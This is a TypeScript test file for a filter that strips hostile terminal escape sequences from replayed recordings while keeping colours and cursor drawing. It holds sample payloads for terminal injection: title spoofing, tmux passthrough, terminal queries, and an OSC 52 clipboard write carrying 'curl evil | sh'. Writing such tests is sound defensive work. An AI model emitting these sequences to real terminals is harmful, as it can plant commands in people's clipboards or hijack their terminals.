import { describe, expect, it } from "vitest";
import { ReplayFilter, replaySafe } from "./replay-safe.js";

const ESC = "\x1b";
const BEL = "\x07";

/** Hostile strings (core/ansi.test.ts has them for terminalText): each one did something to a terminal when printed raw. */
const HOSTILE: ReadonlyArray<readonly [string, string]> = [
  ["a stray ESC before a CSI that hides an OSC", `${ESC}${ESC}[m]0;pwned-title${BEL}`],
  ["OSC 0 (window title)", `${ESC}]0;pwned-title${BEL}`],
  ["OSC 2 ended by ST", `${ESC}]2;pwned-title${ESC}\\`],
  ["OSC 52 (write the clipboard)", `${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${BEL}`],
  ["OSC 8 hyperlink", `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`],
  ["DCS (tmux passthrough)", `${ESC}Ptmux;${ESC}${ESC}]0;pwned${BEL}${ESC}\\`],
  ["8-bit CSI (U+009B)", "\u009b2J\u009b1Apwned"],
  ["8-bit OSC (U+009D) ended by 8-bit ST", "\u009d0;pwned-title\u009c"],
  ["every C1 control as a character", Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join("x")],
  ["BEL, NUL, DEL, vertical tab, form feed", `a${BEL}b\0c\x7fd\x0be\x0cf`],
  ["an unterminated OSC", `${ESC}]0;title without end\nnext line`],
  ["nested introducers", `${ESC}[${ESC}]${ESC}P${ESC}${ESC}[[m`],
];

/**
 * What replaySafe may let through: printable text, \t \n \r \b, and the
 * display sequences of its whitelist. Every ESC of its output must start one
 * of these; nothing else may act on the terminal.
 */
const ALLOWED = new RegExp(
  [
    "\\x1b\\[[0-9;:]*[@ABCDEFGHIJKLMPSTXZ`abdefgmrsu]",
    "\\x1b\\[\\?(?:7|25|47|1047|1048|1049)(?:;(?:7|25|47|1047|1048|1049))*[hl]",
    "\\x1b\\[4[hl]",
    "\\x1b[78DEMH]",
    "\\x1b\\([B0]",
  ].join("|"),
  "g",
);

/** Fails when `out` holds anything a terminal would act on beyond drawing. */
function expectOnlyDisplay(out: string): void {
  const rest = out.replace(ALLOWED, "");
  // eslint-disable-next-line no-control-regex
  expect(rest).not.toMatch(/[\x00-\x07\x0b\x0c\x0e-\x1f\x7f-\x9f]/);
  expect(out).not.toMatch(/\x1b\[[0-9;]*3J/);
}

describe("replaySafe: what a replayed recording may send to a person's terminal", () => {
  it.each(HOSTILE)("lets nothing through from %s but text and drawing", (_what, text) => {
    expectOnlyDisplay(replaySafe(text));
  });

  it("removes an OSC 52 clipboard write and title changes, ended by BEL or ST", () => {
    const clip = `${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${BEL}`;
    const out = replaySafe(`a${clip}b${ESC}]0;pwned${BEL}c${ESC}]2;pwned${ESC}\\d${ESC}]1;icon${BEL}e`);
    expect(out).toBe("abcde");
  });

  it("keeps the program's own colours, cursor movement, erasing and alternate screen", () => {
    const screen = `${ESC}[?1049h${ESC}[H${ESC}[2J${ESC}[1;31mred${ESC}[0m${ESC}[5;10H${ESC}[K${ESC}[38:2::255:0:0mx${ESC}[?25l${ESC}[?25h${ESC}[?1049l`;
    expect(replaySafe(screen)).toBe(screen);
    expect(replaySafe("plain\ttext\r\nnext\bX ✓ 日本語\n")).toBe("plain\ttext\r\nnext\bX ✓ 日本語\n");
  });

  it("drops queries whose answers a terminal types into its input", () => {
    const queries = [`${ESC}[6n`, `${ESC}[c`, `${ESC}[>c`, `${ESC}[21t`, `${ESC}[14t`, `${ESC}[?1$p`, `${ESC}P$qm${ESC}\\`, `${ESC}]10;?${BEL}`, `${ESC}Z`];
    expect(replaySafe(`a${queries.join("")}b`)).toBe("ab");
  });

  it("drops modes that make the terminal send input, and keeps the drawing ones of a mixed list", () => {
    expect(replaySafe(`${ESC}[?1000h${ESC}[?1006h${ESC}[?1004h${ESC}[?2004h${ESC}[?1h${ESC}=`)).toBe("");
    expect(replaySafe(`${ESC}[?1049;1000h`)).toBe(`${ESC}[?1049h`);
  });

  it("drops a full reset, erasing the person's scrollback, charset shifts and the bell", () => {
    expect(replaySafe(`${ESC}cA${ESC}[3JB${ESC}[2;3JC\x0eD\x0fE${BEL}F${ESC}(0G${ESC}(B`)).toBe(`ABCDEF${ESC}(0G${ESC}(B`);
  });

  it("judges a sequence split across two events whole", () => {
    const filter = new ReplayFilter();
    const parts = [`before${ESC}`, "]5", "2;c;ZXZp", `bA==${ESC}`, "\\after", `${ESC}[3`, "1mred"];
    expect(parts.map((part) => filter.push(part)).join("")).toBe(`beforeafter${ESC}[31mred`);
  });

  it("drops 8-bit CSI, OSC and DCS whole, not only their introducer", () => {
    expect(replaySafe("a\u009b2Jb\u009d0;title\u009cc\u0090tmux;x\u009cd")).toBe("abcd");
  });

  it("drops an overlong CSI whole instead of passing its tail as a sequence", () => {
    expect(replaySafe(`${ESC}[${"1;".repeat(100)}mtext`)).toBe("text");
  });

  it("restore() undoes the lasting state a replay cut short left on", () => {
    const filter = new ReplayFilter();
    filter.push(`${ESC}[?1049h${ESC}[?25l${ESC}[5;20r${ESC}(0${ESC}[4h${ESC}[?7lhalf`);
    const restore = filter.restore();
    for (const part of ["\x1b[0m", "\x1b[?1049l", "\x1b[?25h", "\x1b[r", "\x1b(B", "\x1b[4l", "\x1b[?7h"]) expect(restore).toContain(part);
    expect(new ReplayFilter().restore()).toBe("\x1b[0m");
  });

  it("is a fixpoint, and lets nothing through from random bytes of escape syntax", () => {
    const alphabet = [
      ESC,
      ESC,
      "[",
      "]",
      "P",
      "\\",
      BEL,
      ";",
      "?",
      "0",
      "1",
      "5",
      "2",
      "m",
      "h",
      "c",
      "n",
      "t",
      "J",
      "3",
      "(",
      "\u009b",
      "\u009d",
      "\u009c",
      "a",
      "\n",
      "\r",
      "\x18",
    ];
    let seed = 42;
    const next = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed);
    for (let round = 0; round < 2000; round++) {
      const text = Array.from({ length: 1 + (next() % 40) }, () => alphabet[next() % alphabet.length]).join("");
      const out = replaySafe(text);
      expectOnlyDisplay(out);
      expect(replaySafe(out)).toBe(out);
    }
  });

  it("is linear: a megabyte of escapes is filtered at once", () => {
    const text = `${ESC}]0;${"x".repeat(1 << 20)}`;
    const started = process.hrtime.bigint();
    expect(replaySafe(text)).toBe("");
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(5000);
  });
});
